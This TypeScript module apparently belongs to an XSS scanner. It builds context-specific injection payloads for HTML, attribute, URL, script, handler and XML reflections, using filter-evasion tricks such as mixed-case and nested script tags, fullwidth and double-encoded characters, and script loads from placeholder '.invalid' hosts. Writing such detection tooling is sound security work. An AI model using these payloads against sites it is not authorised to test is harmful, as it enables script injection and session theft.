import type { Survivors } from './canary';
import type { HtmlQuote, ReflectionContext } from './context';

/** Two marks of one payload: `x` names something, `y` is the identifier that would run. Neither exists on any page. */
export type Marks = { x: string; y: string };

/** What the parsed answer must hold for the payload to count. `fragment`: the literal code around `y`. */
type Expectation =
  | { kind: 'handler' }
  | { kind: 'script-element' }
  | { kind: 'script-url' }
  | { kind: 'foreign-code' }
  | { kind: 'xml-script' }
  | { kind: 'code'; fragment: string };

export type Payload = { value: string; expects: Expectation };

/** `needs`: characters that must arrive; `asEntity` where a character reference is as good, because the parser resolves it. */
type Variant = {
  build(marks: Marks): Payload;
  needs: string;
  asEntity?: string;
  /** A backslash in front of what it needs does no harm: outside of scripts it escapes nothing. */
  isMarkup?: boolean;
};

const HANDLER = 'onpointerenter';
export const XHTML = 'http://www.w3.org/1999/xhtml';

const simple = (
  needs: string,
  kind: Exclude<Expectation['kind'], 'code'>,
  value: (marks: Marks) => string,
): Variant => ({
  needs,
  isMarkup: true,
  build: (marks) => ({ value: value(marks), expects: { kind } }),
});
const code = (needs: string, value: (marks: Marks) => string, asEntity = '', fragment = value): Variant => ({
  needs,
  asEntity,
  build: (marks) => ({ value: value(marks), expects: { kind: 'code', fragment: fragment(marks) } }),
});

/** New markup after leaving the surrounding text; from the plainest form to those that naive filters let through. */
function markup(closer: string, needs: string): Variant[] {
  return [
    simple(`${needs}<`, 'handler', ({ x, y }) => `${closer}<${x} ${HANDLER}=${y}>`),
    simple(`${needs}<`, 'handler', ({ x, y }) => `${closer}<${x}/${HANDLER}=${y}>`),
    simple(`${needs}<>`, 'script-element', ({ x, y }) => `${closer}<sCripT>${y}//${x}</sCripT>`),
    simple(`${needs}<>`, 'script-element', ({ y }) => `${closer}<scr<script>ipt>${y}</scr</script>ipt>`),
    simple(`${needs}<`, 'handler', ({ x, y }) => `${closer}<b ${HANDLER}=${y} ${x}=`),
    simple(`${needs}<`, 'handler', ({ y }) => `${closer}<q onblur=${y} `),
    simple(`${needs}<`, 'script-url', ({ x, y }) => `${closer}<iframe id=${x} src=javascript:${y}>`),
  ];
}

/** New attributes of the same element, then new markup after it. */
function breakOut(quote: HtmlQuote): Variant[] {
  if (quote === '') {
    return [
      simple('', 'handler', ({ x, y }) => `${x} ${HANDLER}=${y} `),
      simple('', 'handler', ({ x, y }) => `${x}\f${HANDLER}=${y}\f`),
      ...markup('>', '>').slice(0, 3),
    ];
  }
  return [
    // The handler's own quotation mark would be part of its code with a backslash in front.
    { ...simple(quote, 'handler', ({ y }) => `${quote}${HANDLER}=${quote}${y}`), isMarkup: false },
    simple(quote, 'handler', ({ x, y }) => `${quote} ${HANDLER}=${y} ${x}=${quote}`),
    ...markup(`${quote}>`, `${quote}>`).slice(0, 4),
  ];
}

/** Code that leaves the string, comment or expression in which the reflection is. */
function leaveScript(
  state: Extract<ReflectionContext, { state: unknown }>['state'],
  isAttribute: boolean,
): Variant[] {
  const entity = (chars: string) => (isAttribute ? chars : '');
  const leaveString = (quote: string): Variant[] => [
    code(quote, ({ y }) => `${quote}-${y}-${quote}`, entity(quote)),
    // Quotes escaped but backslashes not: our backslash disarms theirs.
    code(
      '\\',
      ({ y }) => `\\${quote}-${y}//`,
      '',
      ({ y }) => `${quote}-${y}//`,
    ),
    // Never a semicolon behind a quotation mark: it ends the statement of a database.
    code(quote, ({ y }) => `${quote}+${y}+${quote}`, entity(quote)),
  ];
  switch (state) {
    case 'single':
      return leaveString("'");
    case 'double':
      return leaveString('"');
    case 'template':
      return [code('', ({ y }) => `\${${y}}`), ...leaveString('`').slice(0, 1)];
    case 'line-comment':
      return [code('', ({ y }) => `\n${y}//`), code('', ({ y }) => `\u2028${y}//`)];
    case 'block-comment':
      return [code('', ({ y }) => `*/${y}/*`)];
    case 'regex':
      // A letter first: two slashes in a row would begin a comment.
      return [code('', ({ y }) => `a/-${y}-/a`)];
    case 'code':
      return [
        code('', ({ x, y }) => `${x}(${y})`),
        code(
          '`',
          ({ x, y }) => `${x}\`${y}\``,
          '',
          ({ x, y }) => `${x}\`${y}`,
        ),
      ];
  }
}

function urlVariants({ runsCode, loadsCode }: { runsCode: boolean; loadsCode: boolean }): Variant[] {
  const running = [
    simple('', 'script-url', ({ y }) => `javascript:${y}`),
    simple('', 'script-url', ({ x, y }) => `jAvAsCrIpT:${y}//http://${x}`),
    simple('', 'script-url', ({ y }) => `java\tscript:${y}`),
  ];
  const loading = [
    simple('', 'foreign-code', ({ x, y }) => `//${y}.invalid/${x}`),
    simple('', 'foreign-code', ({ x, y }) => `https://${y}.invalid/${x}`),
  ];
  return [...(runsCode ? running : []), ...(loadsCode ? loading : [])];
}

const EVERY_CLOSER = `'"></script></title></textarea></style></noscript></select>-->`;

function variantsFor(context: ReflectionContext): Variant[] {
  switch (context.kind) {
    case 'text': {
      const forms = markup(context.closer, context.closer === '' ? '' : '>');
      return context.closer === '-->' ? [...forms.slice(0, 4), ...markup('--!>', '>').slice(0, 1)] : forms;
    }
    case 'attribute': {
      const inner = markup('', '')
        .slice(0, 2)
        .map((variant): Variant => ({ ...variant, asEntity: '<' }));
      return context.sink === 'srcdoc' ? [...inner, ...breakOut(context.quote)] : breakOut(context.quote);
    }
    case 'url':
      return [...urlVariants(context), ...breakOut(context.quote)];
    case 'script':
      return [...leaveScript(context.state, false), ...markup('</script>', '>').slice(0, 3)];
    case 'handler': {
      // A javascript: address is percent-decoded before it runs, so an encoded quote leaves the string too.
      const percent = (quote: string) => `%${quote.charCodeAt(0).toString(16)}`;
      const encoded = (quote: string): Variant =>
        code(
          '',
          ({ y }) => `${percent(quote)}-${y}-${percent(quote)}`,
          '',
          ({ y }) => `${quote}-${y}-${quote}`,
        );
      const quote = context.state === 'single' ? "'" : '"';
      const extra =
        context.isUrl && (context.state === 'single' || context.state === 'double') ? [encoded(quote)] : [];
      return [...leaveScript(context.state, true), ...extra, ...breakOut(context.quote)];
    }
    case 'tag':
      return [...breakOut('').slice(0, 3), simple('', 'handler', ({ x, y }) => `${x}/${HANDLER}=${y}/`)];
    case 'unparsed':
      return [
        simple('<', 'handler', ({ x, y }) => `<frame name=${x} onload=${y}>`),
        simple('<>', 'handler', ({ x, y }) => `${EVERY_CLOSER}<${x} ${HANDLER}=${y}>`),
      ];
  }
}

const XML_VARIANTS: Variant[] = ['', ']]>', '-->'].map((closer) =>
  simple('<>', 'xml-script', ({ x, y }) => `${closer}<${x}:script xmlns:${x}="${XHTML}">${y}</${x}:script>`),
);

const canArrive = (variant: Variant, survivors: Survivors) =>
  [...variant.needs].every((char) => {
    const fate = survivors.readFate(char);
    if (fate === 'slashed') return variant.isMarkup === true;
    return fate === 'raw' || (fate === 'entity' && (variant.asEntity ?? '').includes(char));
  });

const WIDE: Readonly<Record<string, string>> = { '<': '\uff1c', '>': '\uff1e', '"': '\uff02', "'": '\uff07' };
/** What the site turns into the plain characters once its filter has seen the others. */
const disguised = (value: string, { isDecodedTwice }: Survivors): string =>
  isDecodedTwice
    ? encodeURIComponent(value).replaceAll("'", '%27')
    : value.replace(/[<>"']/g, (char) => WIDE[char] ?? char);

/**
 * The payloads worth sending for a context, best first, given what its canary let through. Where the site decodes twice
 * or normalises, each is written so that it is plain only then, which carries every character past the first filter.
 */
export function payloadsFor(
  context: ReflectionContext | 'xml',
  survivors: Survivors,
): ((marks: Marks) => Payload)[] {
  const variants = context === 'xml' ? XML_VARIANTS : variantsFor(context);
  const plain = variants.filter((variant) => canArrive(variant, survivors));
  const isDisguised = plain.length === 0 && (survivors.isDecodedTwice || survivors.isNormalised);
  const forms = isDisguised ? variants.slice(0, 3) : plain;
  const builds = forms.map(({ build }) => (marks: Marks): Payload => {
    const payload = build(marks);
    return isDisguised ? { ...payload, value: disguised(payload.value, survivors) } : payload;
  });
  const probe: Marks = { x: 'x', y: 'y' };
  return survivors.isCut ? builds.sort((a, b) => a(probe).value.length - b(probe).value.length) : builds;
}
